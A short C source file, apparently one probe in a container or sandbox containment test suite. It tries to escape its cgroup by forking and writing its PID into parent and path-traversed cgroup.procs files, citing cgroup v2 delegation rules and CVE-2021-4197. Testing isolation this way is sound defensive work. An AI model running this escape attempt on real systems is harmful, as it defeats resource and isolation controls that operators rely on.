/* Moves itself to the cgroups above its own, and stays there (cgroup-v2.rst, delegation containment; CVE-2021-4197). */
#include "common/attack.h"

static void attempt(void) {
    char number[16], path[256];
    static const char *up[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/../cgroup.procs",
        "/sys/fs/cgroup/../../../cgroup.procs", "/proc/1/root/sys/fs/cgroup/cgroup.procs"};
    show("/proc/self/cgroup");
    if (fork() > 0) {
        usleep(300000);
        return;
    }
    snprintf(number, sizeof number, "%d", getpid());
    for (unsigned i = 0; i < sizeof up / sizeof *up; i++) {
        put(up[i], number);
        put(up[i], "0");
    }
    FILE *cgroup = fopen("/proc/self/cgroup", "r");
    char line[200];
    while (cgroup && fgets(line, sizeof line, cgroup)) {
        line[strcspn(line, "\n")] = 0;
        snprintf(path, sizeof path, "/sys/fs/cgroup%s/../cgroup.procs", strrchr(line, ':') + 1);
        put(path, "0");
    }
    hold();
}
